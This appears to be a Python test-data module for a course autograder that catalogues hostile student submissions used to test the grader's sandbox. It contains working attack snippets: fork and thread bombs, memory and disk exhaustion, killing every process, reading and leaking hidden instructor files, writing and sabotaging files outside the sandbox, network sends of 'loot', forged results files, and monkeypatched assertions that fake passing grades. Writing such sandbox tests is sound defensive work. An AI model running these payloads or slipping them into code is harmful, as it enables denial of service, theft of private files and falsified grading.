"""The catalogue of hostile and broken submissions, as data.

Each :class:`Case` is a submission built from a *base* (the reference, the stubs, or the reference with
one catalogued bug: its *control*, graded in the same batch) plus an attack: code run when the package
is imported (``at="import"``), code run inside ``NoiseScheduler.add_noise`` (``at="task"``, which only
task 2.1.1b's checks call), or a zip built by hand. What its results must show:

- ``zero``: tasks that earn nothing (the attack broke them; "all" for every task);
- every other task earns exactly what the control earns, test by test (the attack gained nothing,
  and cost nothing outside the code it broke);
- ``says``: words one test's feedback (or the results' output) holds, any one of each tuple;
- and for every case: a complete results.json, graded in bounded time (``max_seconds``).

The attack code knows everything an attacker could learn (the repository, the class folder, the
output folder, the ports of the test's listening sockets): the placeholders ``__REPO__``,
``__REFERENCE__``, ``__SOURCE__`` (the folders that hold reference/'s and solutions/' diffusion_models), ``__CLASS__``, ``__OUT__``, ``__ID__``,
``__TCP__``, ``__UDP__``, ``__TOKEN__`` are filled in when the class folder is laid out.
"""

from __future__ import annotations

from dataclasses import dataclass

ALL = "all"


@dataclass(frozen=True)
class Case:
    name: str
    attacks: str  # the words for it
    base: str  # "reference", "stubs" or "bug" (the reference with add-noise-no-sqrt)
    at: str  # "import", "task", "scheduler-module" (the end of noise_scheduler.py) or "zip"
    code: str = ""
    zero: tuple[str, ...] | str = ()
    says: tuple[tuple[str, ...], ...] = ()
    max_seconds: float = 40.0
    needs: str = ""  # the fence its guarantee rests on: "landlock", "filesystem", "signals", "network"


SCHEDULER = ("2.1.1a", "2.1.1b", "2.1.2", "2.3.2")  # the tasks of noise_scheduler.py

LOOP = "while True:\n    pass\n"
SLEEP = "import time\ntime.sleep(3600)\n"
FORK_BOMB = """
import os, time
def _bomb():
    while True:
        try:
            os.fork()
        except OSError:
            pass
_bomb()
"""
THREAD_BOMB = """
import threading, time
while True:
    try:
        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
    except RuntimeError:
        pass
"""
MEMORY_IN_ONE = "import torch\n_hog = torch.ones(2**34)\n"  # 64 GiB in one process: RLIMIT_AS refuses it
MEMORY_ACROSS = """
import os, time
for _ in range(4):  # four processes of 800 MiB each, every page touched: the group's memory limit holds
    if os.fork() == 0:
        _hog = bytearray(800 * 2**20)
        for _i in range(0, len(_hog), 4096):
            _hog[_i] = 1
        time.sleep(3600)
time.sleep(3600)
"""
SEGFAULT = "import ctypes\nctypes.string_at(0)\n"
FAKE_RESULTS = """
import json, os
_fake = json.dumps({"score": 70, "output": "perfect", "tests": [
    {"name": "everything", "score": 70, "max_score": 70, "status": "passed"}]})
print(_fake)
for _path in ("results.json", "__OUT__/results/__ID__/results.json", "__OUT__/grades.csv",
              "/autograder/results/results.json", "__OUT__/results/__ID__/grading.json"):
    try:
        os.makedirs(os.path.dirname(os.path.abspath(_path)), exist_ok=True)
        with open(_path, "w") as _f:
            _f.write(_fake)
    except OSError:
        pass
"""
PATCH_EVERYTHING = """
import builtins, sys, unittest
import numpy, numpy.testing, torch, torch.testing
_yes = lambda *a, **k: True
_none = lambda *a, **k: None
torch.allclose = torch.equal = numpy.allclose = numpy.array_equal = _yes
torch.testing.assert_close = numpy.testing.assert_allclose = numpy.testing.assert_array_equal = _none
for _name in dir(unittest.TestCase):
    if _name.startswith("assert"):
        setattr(unittest.TestCase, _name, _none)
try:
    import pytest
    pytest.approx = lambda expected, *a, **k: expected
except Exception:
    pass
builtins.print = _none
builtins.exit = builtins.quit = _none
for _name, _module in list(sys.modules.items()):
    if _name.startswith(("_grader", "autograder")):
        for _attr in ("assert_close", "check", "run_check", "explain_problem", "describe_exception"):
            if hasattr(_module, _attr):
                setattr(_module, _attr, _none)
"""
PATCH_PROBES = """
import sys
for _name, _module in list(sys.modules.items()):
    if _name.startswith(("_grader", "autograder")) and hasattr(_module, "PROBES"):
        for _probe in list(_module.PROBES):
            _module.PROBES[_probe] = lambda ctx, **inputs: {"passed": True, "score": 70}
"""
FORGE_MESSAGES = """
import os, socket, struct
_deep = b"[" * 200000 + b"]" * 200000
for _fd in range(3, 64):
    try:
        _s = socket.socket(fileno=os.dup(_fd))
        _s.sendall(struct.pack(">I", len(_deep)) + _deep)
    except OSError:
        pass
"""
SECRETS = (  # files no submission may read, each with a line of it that no feedback may show
    ("__REPO__/autograder/checks/scheduler.py", "def init_closed_form"),
    ("__REPO__/autograder/closed_forms.py", "def ddpm_mean"),
    ("__REFERENCE__/diffusion_models/noise_scheduler.py", "alpha_bar_t.sqrt() * original_samples"),
    ("__SOURCE__/diffusion_models/noise_scheduler.py", "### BEGIN SOLUTION"),
)
# What a thief shows: the line that gives each secret away (short, so that all four fit in the end of the
# output a crash quotes, and in the start of an error message), or why the file could not be read.
LEAK_SECRETS = (
    f"_secrets = {SECRETS!r}\n"
    + """
_leaked = []
for _path, _line in _secrets:
    try:
        _text = open(_path).read()
    except OSError as _err:
        _leaked.append(f"{_path}: {_err}")
        continue
    _at = max(_text.find(_line), 0)
    _leaked.append(_text[_at : _at + 80])
print("\\n".join(_leaked), flush=True)  # the last lines a crash shows in the feedback
raise RuntimeError("\\n".join(_leaked))  # an import error's message is shown too
"""
)
PRINT_SECRETS = LEAK_SECRETS.replace(
    'raise RuntimeError("\\n".join(_leaked))  # an import error\'s message is shown too',
    "import os\nos._exit(3)  # a crash: the feedback quotes the end of what was printed",
)
STEAL_SOLUTION = """
import glob
_sources = ["__REFERENCE__/diffusion_models/noise_scheduler.py",
            "__SOURCE__/diffusion_models/noise_scheduler.py"]
_sources += sorted(glob.glob("__CLASS__/**/noise_scheduler.py", recursive=True))
for _path in _sources:
    try:
        _text = open(_path).read()
    except OSError:
        continue
    if "raise NotImplementedError" not in _text:
        exec(compile(_text.replace("from .", "from diffusion_models."), _path, "exec"), globals())
        break
"""
WRITE_OUTSIDE = """
import os
_targets = ["__REPO__/autograder/hostile_sentinel___TOKEN__.py",
            "__REPO__/release/diffusion/diffusion_models/hostile_sentinel___TOKEN__.py",
            "/tmp/hostile_sentinel___TOKEN__", "__OUT__/hostile_sentinel___TOKEN__",
            "__CLASS__/hostile_sentinel___TOKEN__"]
for _path in _targets:
    try:
        with open(_path, "w") as _f:
            _f.write("written from outside the sandbox")
    except OSError:
        pass
for _path in ("__REPO__/autograder/closed_forms.py", "__REPO__/autograder/sandbox/child.py",
              "__CLASS__/submitted/zz-victim/diffusion/diffusion_models/noise_scheduler.py"):
    try:
        with open(_path, "a") as _f:
            _f.write("\\nraise RuntimeError('sabotaged by __TOKEN__')\\n")
    except OSError:
        pass
"""
NETWORK = """
import socket
_loot = b"stolen by __TOKEN__"
for _attempt in (
    lambda: socket.create_connection(("127.0.0.1", __TCP__), timeout=2).sendall(_loot),
    lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(_loot, ("127.0.0.1", __UDP__)),
    lambda: socket.getaddrinfo("pypi.org", 443),
    lambda: socket.create_connection(("pypi.org", 443), timeout=2).sendall(_loot),
):
    try:
        _attempt()
    except Exception:
        pass
try:
    _unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    _unix.connect("\\0hostile-__TOKEN__")
    _unix.sendall(_loot)
except Exception:
    pass
"""
KILL_EVERYTHING = """
import os, signal
for _pid in [os.getppid(), 1] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if _pid != os.getpid():
        try:
            os.kill(_pid, signal.SIGKILL)
        except OSError:
            pass
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
"""
FLOOD = """
import sys
_block = b"fake result: 70/70 " * (2**22 // 19)
for _ in range(2 * 2**30 // len(_block)):  # 2 GiB on stdout
    sys.stdout.buffer.write(_block)
sys.stdout.flush()
"""
BIG_FILE = """
import errno, os
_chunk, _stopped = b"x" * 2**20, "no error"
try:
    with open("big.bin", "wb") as _f:
        for _ in range(100):  # 100 MiB, over the 64 MiB file-size limit
            _f.write(_chunk)
except OSError as _err:
    _stopped = errno.errorcode.get(_err.errno, str(_err.errno))
raise RuntimeError(f"big.bin stopped growing at {os.path.getsize('big.bin')} bytes: {_stopped}")
"""
DISK_FILL = """
_chunk = b"x" * 2**20
for _n in range(1000):  # 60 MiB files, one after another, until the folder's 256 MiB are spent
    try:
        with open(f"fill{_n}.bin", "wb") as _f:
            for _ in range(60):
                _f.write(_chunk)
    except OSError:
        pass
"""

STOPPED = ("did not finish", "was stopped", "time limit")
CASES: tuple[Case, ...] = (
    # ------------------------------------------------------------------ hangs
    Case(
        "loop-at-import", "infinite loop at import", "reference", "import", LOOP, ALL, (("did not finish",),)
    ),
    Case("sleep-at-import", "sleep at import", "reference", "import", SLEEP, ALL, (("did not finish",),)),
    Case("loop-in-task", "infinite loop inside a task", "reference", "task", LOOP, ("2.1.1b",), (STOPPED,)),
    Case("sleep-in-task", "sleep inside a task", "reference", "task", SLEEP, ("2.1.1b",), (STOPPED,)),
    # ------------------------------------------------------------------ bombs and memory
    Case(
        "fork-bomb-at-import",
        "fork bomb at import",
        "reference",
        "import",
        FORK_BOMB,
        ALL,
        (("processes or threads", "CPU cores", "did not finish"),),
    ),
    Case(
        "fork-bomb-in-task",
        "fork bomb inside a task",
        "reference",
        "task",
        FORK_BOMB,
        ("2.1.1b",),
        (("processes or threads", "CPU cores"),),
    ),
    Case(
        "thread-bomb-at-import",
        "thread bomb at import",
        "reference",
        "import",
        THREAD_BOMB,
        ALL,
        (("processes or threads", "memory or threads", "MemoryError", "did not finish"),),
    ),
    Case(
        "thread-bomb-in-task",
        "thread bomb inside a task",
        "reference",
        "task",
        THREAD_BOMB,
        ("2.1.1b",),
        (("processes or threads", "memory or threads", "MemoryError", "did not finish"),),
    ),
    Case(
        "memory-in-one-process",
        "allocating far more memory than the limit",
        "reference",
        "task",
        MEMORY_IN_ONE,
        ("2.1.1b",),
        (("can't allocate memory", "MemoryError"),),
    ),
    Case(
        "memory-across-processes",
        "allocating more memory than the limit in several processes",
        "reference",
        "import",
        MEMORY_ACROSS,
        ALL,
        (("out of memory", "of memory"),),
    ),
    # ------------------------------------------------------------------ exits and crashes
    Case(
        "exit-at-import",
        "sys.exit(0) at import",
        "reference",
        "import",
        "import sys\nsys.exit(0)\n",
        ALL,
        (("sys.exit(0) was called",),),
    ),
    Case(
        "os-exit-at-import",
        "os._exit(0) at import",
        "reference",
        "import",
        "import os\nos._exit(0)\n",
        ALL,
        (("did your code call sys.exit or os._exit",),),
    ),
    Case(
        "interrupt-at-import",
        "KeyboardInterrupt at import",
        "reference",
        "import",
        "raise KeyboardInterrupt\n",
        ALL,
        (("KeyboardInterrupt",),),
    ),
    Case(
        "segfault-at-import",
        "segfault (ctypes) at import",
        "reference",
        "import",
        SEGFAULT,
        ALL,
        (("segmentation fault",),),
    ),
    Case(
        "exit-in-task",
        "sys.exit(0) mid-task",
        "reference",
        "task",
        "import sys\nsys.exit(0)\n",
        ("2.1.1b",),
        (("sys.exit(0) was called",),),
    ),
    Case(
        "os-exit-in-task",
        "os._exit(0) mid-task",
        "reference",
        "task",
        "import os\nos._exit(0)\n",
        ("2.1.1b",),
        (("did your code call sys.exit or os._exit",),),
    ),
    Case(
        "interrupt-in-task",
        "KeyboardInterrupt mid-task",
        "reference",
        "task",
        "raise KeyboardInterrupt\n",
        ("2.1.1b",),
        (("KeyboardInterrupt",),),
    ),
    Case(
        "segfault-in-task",
        "segfault (ctypes) mid-task",
        "reference",
        "task",
        SEGFAULT,
        ("2.1.1b",),
        (("segmentation fault",),),
    ),
    # ------------------------------------------------------------------ cheating
    Case(
        "fake-results",
        "printing fake results, writing results.json and Gradescope's results file",
        "bug",
        "import",
        FAKE_RESULTS,
    ),
    Case(
        "patch-libraries",
        "patching torch, numpy, builtins, unittest/pytest and the grader's judging",
        "bug",
        "import",
        PATCH_EVERYTHING,
    ),
    Case(
        "patch-probes",
        "replacing the grader's probes in its own process",
        "bug",
        "import",
        PATCH_PROBES,
        ALL,
        (("was the grader's code in your process replaced",),),
    ),
    Case(
        "forge-messages",
        "forging the grader's messages (a reply nested 200000 deep)",
        "reference",
        "import",
        FORGE_MESSAGES,
        ALL,
        (("a message it refuses",),),
    ),
    Case(
        "leak-secrets",
        "reading the hidden checks, the reference and the instructor's files",
        "stubs",
        "import",
        LEAK_SECRETS,
        ALL,
        (("Permission denied",),),
        needs="landlock",
    ),
    Case(
        "print-secrets",
        "printing the hidden checks, the reference and the instructor's files, then crashing",
        "stubs",
        "import",
        PRINT_SECRETS,
        ALL,
        (("Permission denied",),),
        needs="landlock",
    ),
    Case(
        "steal-solution",
        "running the reference solution or a classmate's code",
        "stubs",
        "scheduler-module",
        STEAL_SOLUTION,
        needs="landlock",
    ),
    Case(
        "write-outside",
        "writing outside its sandbox (the grader, the release, the class, a classmate)",
        "reference",
        "import",
        WRITE_OUTSIDE,
        needs="filesystem",
    ),
    Case(
        "network",
        "network access (TCP, UDP, DNS, an abstract unix socket)",
        "reference",
        "import",
        NETWORK,
        needs="network",
    ),
    Case(
        "kill-everything",
        "killing the grader and every process it can see",
        "reference",
        "import",
        KILL_EVERYTHING,
        needs="signals",
    ),
    # ------------------------------------------------------------------ output and files
    Case("flood-stdout", "gigabytes of output on stdout", "reference", "import", FLOOD, max_seconds=60),
    Case(
        "big-file",
        "a file larger than the file-size limit (the attack reports where its file stopped growing)",
        "reference",
        "task",
        BIG_FILE,
        ("2.1.1b",),
        ((f"big.bin stopped growing at {64 * 2**20} bytes: EFBIG",),),
    ),
    Case(
        "disk-fill",
        "filling the disk with files",
        "reference",
        "task",
        DISK_FILL,
        ("2.1.1b",),
        (("MiB of files",),),
    ),
    # ------------------------------------------------------------------ broken zips
    Case("zip-dotdot", "a zip with ../ paths", "reference", "zip", zero=ALL, says=(("outside the zip",),)),
    Case(
        "zip-absolute",
        "a zip with absolute paths",
        "reference",
        "zip",
        zero=ALL,
        says=(("outside the zip",),),
    ),
    Case("zip-symlink", "a zip with symlinks", "reference", "zip"),
    Case("zip-bomb", "a zip bomb", "reference", "zip", zero=ALL, says=(("more than 100 MiB",),)),
    Case(
        "zip-bad-utf8",
        "a zip with non-UTF-8 names (flagged UTF-8)",
        "reference",
        "zip",
        zero=ALL,
        says=(("not valid UTF-8",),),
    ),
    Case("zip-cp437", "a zip with non-UTF-8 names (cp437, unflagged)", "reference", "zip"),
    Case("zip-nested", "a zip with a nested folder", "reference", "zip"),
    Case(
        "zip-missing-file",
        "a zip without noise_scheduler.py",
        "reference",
        "zip",
        zero=SCHEDULER,
        says=(("stub you were given",),),
    ),
    Case(
        "zip-syntax-error",
        "a zip with a syntax error",
        "reference",
        "zip",
        zero=ALL,
        says=(("SyntaxError",),),
    ),
    Case(
        "zip-wrong-name",
        "a zip with the wrong package name",
        "reference",
        "zip",
        zero=ALL,
        says=(("must be named diffusion_models",),),
    ),
)
